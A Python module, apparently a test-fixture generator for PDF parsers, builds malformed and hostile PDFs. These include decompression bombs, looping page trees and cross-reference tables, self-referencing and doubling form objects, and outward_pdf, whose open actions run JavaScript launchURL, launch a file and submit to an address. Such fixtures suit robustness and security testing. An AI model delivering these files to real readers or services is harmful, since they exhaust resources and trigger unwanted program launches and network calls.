"""In: nothing. Out: PDF files that loop, explode, point outwards or run scripts, written object by object."""

from __future__ import annotations

import zlib
from collections.abc import Sequence

_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def pdf(objects: Sequence[bytes], root: bytes = b"<< /Type /Catalog /Pages 2 0 R >>", trailer: bytes = b"") -> bytes:
    """A file of the catalogue (1) and the objects from number 2 on, with a sound cross-reference table."""
    made = b"%PDF-1.7\n"
    places = []
    for number, content in enumerate((root, *objects), 1):
        places.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(places) + 1
    head = b"xref\n0 %d\n0000000000 65535 f \n" % size
    end = b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, len(made))
    return made + head + table + end


def stream(content: bytes, more: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), more, content)


def page(more: bytes = b"", content: int = 4, box: bytes = b"[0 0 595 842]") -> bytes:
    return b"<< /Type /Page /Parent 2 0 R /MediaBox %s /Contents %d 0 R /Resources << /Font << /F 5 0 R >> %s >> >>" % (
        box,
        content,
        more,
    )


def words(lines: Sequence[str]) -> bytes:
    shown = b"".join(b"(%s) Tj 0 -20 Td " % line.encode("ascii") for line in lines)
    return b"BT /F 12 Tf 72 760 Td " + shown + b"ET"


def _one(content: bytes, *, more: bytes = b"", kids: bytes = b"[3 0 R]", count: int = 1) -> list[bytes]:
    return [b"<< /Type /Pages /Kids %s /Count %d >>" % (kids, count), page(more), content, _FONT]


LINES = ("The quality report of the year.", "The office checked 120 companies and closed 3 of them.")


def packed_stream(megabytes: int) -> bytes:
    """A page whose content packs a thousandfold: moves that draw nothing."""
    return pdf(_one(stream(zlib.compress(b"0 0 m " * (megabytes * 174_763), 9), b"/Filter /FlateDecode")))


def nested_filters(depth: int) -> bytes:
    content = words(LINES)
    for _ in range(depth):
        content = zlib.compress(content)
    filters = b"/Filter [%s]" % (b"/FlateDecode " * depth)
    return pdf(_one(stream(content, filters)))


def double_packed() -> bytes:
    """Two filters, each a thousandfold: half a gigabyte from some kilobytes."""
    once = zlib.compress(bytes(1 << 29), 6)
    return pdf(_one(stream(zlib.compress(once, 9), b"/Filter [/FlateDecode /FlateDecode]")))


def looping_pages() -> bytes:
    objects = _one(stream(words(LINES)), kids=b"[2 0 R 3 0 R 2 0 R]", count=1000)
    return pdf(objects)


def endless_pages(count: int) -> bytes:
    """One page that is named so often; the tree claims even more."""
    return pdf(_one(stream(words(LINES)), kids=b"[%s]" % (b"3 0 R " * count), count=2_000_000_000))


def drawing_itself() -> bytes:
    objects = _one(stream(words(LINES) + b" /X Do"), more=b"/XObject << /X 6 0 R >>")
    form = (
        b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> /Font << /F 5 0 R >> >>"
    )
    return pdf([*objects, stream(words(LINES) + b" /X Do /X Do", form)])


def doubling_forms(levels: int) -> bytes:
    """Forms that draw the next one twice: two to the power of the levels."""
    objects = _one(stream(words(LINES) + b" /X Do"), more=b"/XObject << /X 6 0 R >>")
    for level in range(levels):
        follower = 7 + level
        form = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X %d 0 R >> >>" % follower
        objects.append(stream(b"/X Do /X Do" if level + 1 < levels else b"0 0 m", form))
    return pdf(objects)


def outward_pdf(address: str, canary: str) -> bytes:
    """Actions on opening: a script, a program, an address, a file, a form; and a stream that lies elsewhere."""
    to, file = address.encode(), canary.encode()
    acts = b" ".join(
        (
            b"<< /S /JavaScript /JS (app.launchURL\\('%s/js'\\)) /Next [" % to,
            b"<< /S /Launch /F (%s) >> << /S /URI /URI (%s/uri) >>" % (file, to),
            b"<< /S /GoToR /F (%s) /D [0 /Fit] >> << /S /SubmitForm /F (%s/form) >>" % (file, to),
            b"<< /S /ImportData /F (%s) >> ] >>" % file,
        )
    )
    root = b"<< /Type /Catalog /Pages 2 0 R /OpenAction %s /AA << /O %s >> >>" % (acts, acts)
    outer = b"<< /Length 0 /F (%s) /FFilter /FlateDecode >>\nstream\n\nendstream" % file
    reference = b"/XObject << /R 6 0 R >>"
    return pdf([*_one(stream(words(LINES)), more=reference), outer], root)


def looping_table() -> bytes:
    """A cross-reference table whose predecessor is itself."""
    data = pdf(_one(stream(words(LINES))))
    at = data.rindex(b"xref\n0")
    return data.replace(b"/Root 1 0 R ", b"/Root 1 0 R /Prev %d " % at)


def huge_box() -> bytes:
    objects = _one(stream(words(LINES)))
    objects[1] = page(box=b"[-1e30 -1e30 1e30 1e30]")
    return pdf(objects)


def nested_arrays(depth: int) -> bytes:
    """An object that is nothing but brackets."""
    return pdf([*_one(stream(words(LINES))), b"[" * depth + b"]" * depth], trailer=b"/Info 6 0 R")


def many_operators(count: int) -> bytes:
    return pdf(_one(stream(b"BT /F 1 Tf " + b"(a) Tj 1 0 Td " * count + b"ET")))
